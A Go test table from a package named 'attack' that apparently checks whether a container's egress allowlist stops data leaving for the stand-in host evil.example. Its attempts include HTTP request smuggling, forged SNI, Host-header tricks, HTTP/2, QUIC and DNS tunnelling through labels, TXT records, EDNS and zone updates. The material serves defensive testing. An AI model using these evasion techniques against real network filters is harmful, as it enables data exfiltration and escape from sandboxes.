package attack

import (
	"fmt"
	"strings"
)

// get is a request of HTTP/1.1 with these lines behind the first.
func get(path string, fields ...string) []byte {
	return []byte("GET " + path + " HTTP/1.1\r\n" + strings.Join(fields, "\r\n") + "\r\n\r\n")
}

// smuggled is a request to a foreign host within the body of one to a listed host, which two readers
// who differ about the length would tell apart.
func smuggled(x scene, coding string) []byte {
	inner := string(get("/"+x.token, "Host: evil.example"))
	return fmt.Appendf(nil, "POST / HTTP/1.1\r\nHost: site.example\r\nContent-Length: %d\r\n%s\r\n\r\n0\r\n\r\n%s", 5+len(inner), coding, inner)
}

// prior is HTTP/2 with prior knowledge (RFC 9113, 3.3): the preface, SETTINGS, and HEADERS whose
// fields are literals (RFC 7541, 6.2.2).
func prior(authority string) []byte {
	literal := func(name byte, value string) []byte { return append([]byte{name, byte(len(value))}, value...) }
	block := append([]byte{0x82, 0x86, 0x84}, literal(1, authority)...) // GET, http, /, :authority
	b := []byte("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")
	b = append(b, 0, 0, 0, 4, 0, 0, 0, 0, 0)
	b = append(b, 0, 0, byte(len(block)), 1, 5, 0, 0, 0, 1)
	return append(b, block...)
}

// initial looks like the first packet of QUIC (RFC 9000, 17.2.2), as long as it has to be.
func initial(data []byte) []byte {
	b := append([]byte{0xc3, 0, 0, 0, 1, 8, 1, 2, 3, 4, 5, 6, 7, 8, 0, 0, 0x44, 0x9e, 0, 0, 0, 0}, data...)
	return append(b, make([]byte, 1200-len(b))...)
}

const byName = "the process goes to the listed host, by the name, and never to the address that the container chose"

var names = []row{
	{name: "a listed address and port, to show that the attacker can send", at: lan, may: lan, must: true, why: "it is listed",
		try: func(x scene) attempts { return dial("tcp", x.lan, 81, x.text()) }},
	{name: "the same in a frame made by hand, to show that these come as far", at: lan, may: lan, must: true, why: "it is listed",
		try: func(x scene) attempts {
			return frames(x.via(x.to(x.lan, 6), tcp(x.eve, x.lan, x.port, 81, syn, x.text())))
		}},
	{name: "TCP to a foreign address", try: func(x scene) attempts { return dial("tcp", x.evil, 8080, x.text()) }},
	{name: "TCP to a foreign address, at a port that is listed of another", try: func(x scene) attempts { return dial("tcp", x.evil, 81, x.text()) }},
	{name: "TCP to another port of a listed address", at: lan, try: func(x scene) attempts { return dial("tcp", x.lan, 82, x.text()) }},
	{name: "UDP to a port that is listed for TCP", at: lan, try: func(x scene) attempts { return dial("udp", x.lan, 81, x.text()) }},
	{name: "data in the first segment of TCP (SYN)", try: func(x scene) attempts {
		return frames(x.via(x.to(x.evil, 6), tcp(x.eve, x.evil, x.port, 8080, syn, x.text())))
	}},
	{name: "HTTPS of a foreign name at its address", try: func(x scene) attempts { return dial("tcp", x.evil, 443, hello(x.token+".evil.example", "h2", nil)) }},
	{name: "TLS without a name", try: func(x scene) attempts { return dial("tcp", x.evil, 443, hello("", x.token, nil)) }},
	{name: "a listed name in TLS, at a foreign address (forged SNI, /etc/hosts)", may: lan, carried: true, why: byName,
		try: func(x scene) attempts { return dial("tcp", x.evil, 443, hello("site.example", x.token, nil)) }},
	{name: "a listed name in HTTP, at a foreign address", may: lan, carried: true, why: byName,
		try: func(x scene) attempts { return dial("tcp", x.evil, 80, get("/"+x.token, "Host: site.example")) }},
	{name: "a foreign name in TLS, at an address that a listed name shares", at: lan,
		try: func(x scene) attempts { return dial("tcp", x.lan, 443, hello(x.token+".evil.example", "h2", nil)) }},
	{name: "an encrypted name (ECH) behind a listed one", at: lan,
		try: func(x scene) attempts {
			return dial("tcp", x.lan, 443, hello("site.example", "h2", encrypted(x.token)))
		}},
	{name: "what is not TLS at port 443", at: lan, try: func(x scene) attempts { return dial("tcp", x.lan, 443, append([]byte("SSH-2.0-"), x.text()...)) }},
	{name: "HTTP of a foreign name", at: lan, try: func(x scene) attempts { return dial("tcp", x.lan, 80, get("/", "Host: "+x.token+".evil.example")) }},
	{name: "HTTP of a foreign name, as a proxy is asked (absolute form)", at: lan,
		try: func(x scene) attempts {
			return dial("tcp", x.lan, 80, get("http://"+x.token+".evil.example/", "Host: site.example"))
		}},
	{name: "CONNECT", at: lan, try: func(x scene) attempts {
		return dial("tcp", x.lan, 80, []byte("CONNECT "+x.token+".evil.example:443 HTTP/1.1\r\nHost: site.example\r\n\r\n"))
	}},
	{name: "a second request for another host, without waiting (pipelining)", at: lan, try: func(x scene) attempts {
		return dial("tcp", x.lan, 80, append(get("/", "Host: site.example"), get("/"+x.token, "Host: evil.example")...))
	}},
	{name: "two Host fields", at: lan, try: func(x scene) attempts {
		return dial("tcp", x.lan, 80, get("/"+x.token, "Host: site.example", "Host: evil.example"))
	}},
	{name: "a Host field that goes on in a second line", at: lan, try: func(x scene) attempts {
		return dial("tcp", x.lan, 80, get("/"+x.token, "Host: site.example", " evil.example"))
	}},
	{name: "HTTP/1.0 without a Host field", at: lan, try: func(x scene) attempts { return dial("tcp", x.lan, 80, []byte("GET /"+x.token+" HTTP/1.0\r\n\r\n")) }},
	{name: "a smuggled request (Content-Length and Transfer-Encoding)", at: lan,
		try: func(x scene) attempts { return dial("tcp", x.lan, 80, smuggled(x, "Transfer-Encoding: chunked")) }},
	{name: "a smuggled request (a coding that few understand)", at: lan,
		try: func(x scene) attempts { return dial("tcp", x.lan, 80, smuggled(x, "Transfer-Encoding: xchunked")) }},
	{name: "a smuggled request (a blank before the colon)", at: lan,
		try: func(x scene) attempts { return dial("tcp", x.lan, 80, smuggled(x, "Transfer-Encoding : chunked")) }},
	{name: "WebSocket to a foreign name", at: lan, try: func(x scene) attempts {
		return dial("tcp", x.lan, 80, get("/"+x.token, "Host: evil.example", "Connection: Upgrade", "Upgrade: websocket", "Sec-WebSocket-Version: 13", "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ=="))
	}},
	{name: "HTTP/2 without TLS, with a foreign authority", at: lan, try: func(x scene) attempts { return dial("tcp", x.lan, 80, prior(x.token+".evil.example")) }},
	{name: "HTTP/2 without TLS, to a foreign address with a listed authority", try: func(x scene) attempts { return dial("tcp", x.evil, 80, append(prior("site.example"), x.token...)) }},
	{name: "QUIC (UDP 443) to a foreign address", try: func(x scene) attempts { return dial("udp", x.evil, 443, initial(x.text())) }},
	{name: "QUIC (UDP 443) to the address of a listed name", at: lan, try: func(x scene) attempts { return dial("udp", x.lan, 443, initial(x.text())) }},
}

// long is a name whose labels are as long as they may be.
func long(token string) string {
	label := func(fill string) string { return strings.Repeat(fill, 63-len(token)) + token }
	return label("a") + "." + label("b") + "." + label("c") + ".evil.example"
}

// updating is a dynamic update (RFC 2136) of a listed zone with a name of the attacker's.
func updating(token string) []byte {
	b := question("site.example", 6)
	b[2], b[9] = 5<<3, 1 // the opcode; one record to add
	b = append(append(append(b, byte(len(token))), token...), 0xc0, 12)
	return append(b, 0, 1, 0, 1, 0, 0, 0, 60, 0, 4, 192, 0, 2, 1)
}

// twice is a message with two questions.
func twice(token string) []byte {
	b := question("site.example", 1)
	b[5] = 2
	return append(b, question(token+".evil.example", 1)[12:]...)
}

var dns = []row{
	{name: "DNS over UDP, of the attacker's own resolver", try: func(x scene) attempts { return dial("udp", x.evil, 53, question(x.token+".evil.example", 1)) }},
	{name: "DNS over TCP, of the attacker's own resolver", try: func(x scene) attempts { return dial("tcp", x.evil, 53, streamed(question(x.token+".evil.example", 1))) }},
	{name: "DNS over UDP, of the resolver that listed names are asked of", at: lan, try: func(x scene) attempts { return dial("udp", x.lan, 53, question(x.token+".evil.example", 1)) }},
	{name: "DNS over TCP, of that", at: lan, try: func(x scene) attempts { return dial("tcp", x.lan, 53, streamed(question(x.token+".evil.example", 1))) }},
	{name: "DNS over TLS (853)", try: func(x scene) attempts { return dial("tcp", x.evil, 853, hello(x.token+".evil.example", "dot", nil)) }},
	{name: "DNS over HTTPS", try: func(x scene) attempts { return dial("tcp", x.evil, 443, hello("dns.evil.example", x.token, nil)) }},
	{name: "DNS over QUIC (UDP 853)", try: func(x scene) attempts { return dial("udp", x.evil, 853, initial(x.text())) }},
	{name: "data in long labels", at: lan, try: func(x scene) attempts { return dial("udp", x.lan, 53, question(long(x.token), 1)) }},
	{name: "text records (TXT)", at: lan, try: func(x scene) attempts { return dial("udp", x.lan, 53, question(x.token+".evil.example", 16)) }},
	{name: "a name below a listed one", at: lan, try: func(x scene) attempts { return dial("udp", x.lan, 53, question(x.token+".site.example", 16)) }},
	{name: "a name below a listed one with `*`", at: lan, may: lan, carried: true, why: "`*.cdn.example` lists every name below: who answers for them is trusted",
		try: func(x scene) attempts { return dial("udp", x.lan, 53, question(x.token+".cdn.example", 1)) }},
	{name: "data in the case of a listed name's letters", at: lan, capitals: true,
		try: func(x scene) attempts { return dial("udp", x.lan, 53, question(x.token+".cdn.example", 1)) }},
	{name: "data beside a listed name (an option of EDNS)", at: lan, try: func(x scene) attempts { return dial("udp", x.lan, 53, question("site.example", 1, edns(x.token)...)) }},
	{name: "data behind a question for a listed name", at: lan, try: func(x scene) attempts {
		return dial("udp", x.lan, 53, append(question("site.example", 1), x.text()...))
	}},
	{name: "a second question in the same message", at: lan, try: func(x scene) attempts { return dial("udp", x.lan, 53, twice(x.token)) }},
	{name: "an update of a listed zone", at: lan, try: func(x scene) attempts { return dial("udp", x.lan, 53, updating(x.token)) }},
}
